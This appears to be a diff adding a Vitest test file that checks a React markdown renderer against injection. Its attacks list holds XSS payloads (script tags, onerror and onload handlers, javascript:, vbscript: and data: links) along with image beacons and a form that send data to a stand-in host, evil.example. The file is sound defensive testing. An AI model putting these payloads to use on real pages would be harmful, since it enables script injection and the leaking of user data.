@@ -1,0 +1,56 @@
+import { renderToStaticMarkup } from 'react-dom/server'
+import { expect, test } from 'vitest'
+import MarkdownText from './markdown-text.tsx'
+
+const render = (text: string, streaming = false) =>
+  renderToStaticMarkup(<MarkdownText text={text} streaming={streaming} />)
+
+const attacks = [
+  '<img src=x onerror=alert(1)>',
+  '<script>alert(1)</script>',
+  '<svg/onload=alert(1)>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<a href="javascript:alert(1)">x</a>',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](java\nscript:alert(1))',
+  '[x](data:text/html;base64,PHNjcmlwdD4=)',
+  '[x](vbscript:msgbox(1))',
+  '[x](//evil.example)',
+  '[x](/api/kam/auth/logout)',
+  '[x](file:///etc/passwd)',
+  '![x](https://evil.example/?q=journal)',
+  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
+  '![x][y]\n\n[y]: https://evil.example/beacon',
+  '<https://evil.example/><style>*{display:none}</style>',
+  '[x](https://ok.example "onclick=alert(1)")',
+  '<form action=https://evil.example><input name=a></form>',
+  '<details open ontoggle=alert(1)>',
+  '`<img src=x onerror=alert(1)>`',
+  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
+]
+
+test.for(attacks.flatMap((text) => [[text, false] as const, [text, true] as const]))(
+  '%s stays a text',
+  ([text, streaming]) => {
+    const html = render(text, streaming)
+    expect(html).not.toMatch(/<(img|script|svg|iframe|style|form|details|object|embed|link|meta)[\s>/]/i)
+    expect(html.replace(/>[^<]*</g, '><')).not.toMatch(/javascript:|vbscript:|data:|\son\w+=/i)
+    for (const [, href] of html.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^(https?:\/\/|mailto:)/)
+  },
+)
+
+test('links open apart and carry nothing along', () => {
+  expect(render('[x](https://ok.example)')).toMatch(
+    /<a href="https:\/\/ok\.example" target="_blank" rel="noopener noreferrer nofollow ugc"/,
+  )
+})
+
+test('what was written as HTML can still be read', () => {
+  expect(render('Use <Foo> here')).toContain('Use &lt;Foo&gt; here')
+})
+
+test('while words come the caret stands behind the last one, and afterwards nowhere', () => {
+  expect(render('One.\n\n- two', true)).toMatch(/two<\/span><span aria-hidden="true"[^>]*><\/span><\/li>/)
+  expect(render('One.\n\n- two')).not.toContain('aria-hidden="true"')
+})
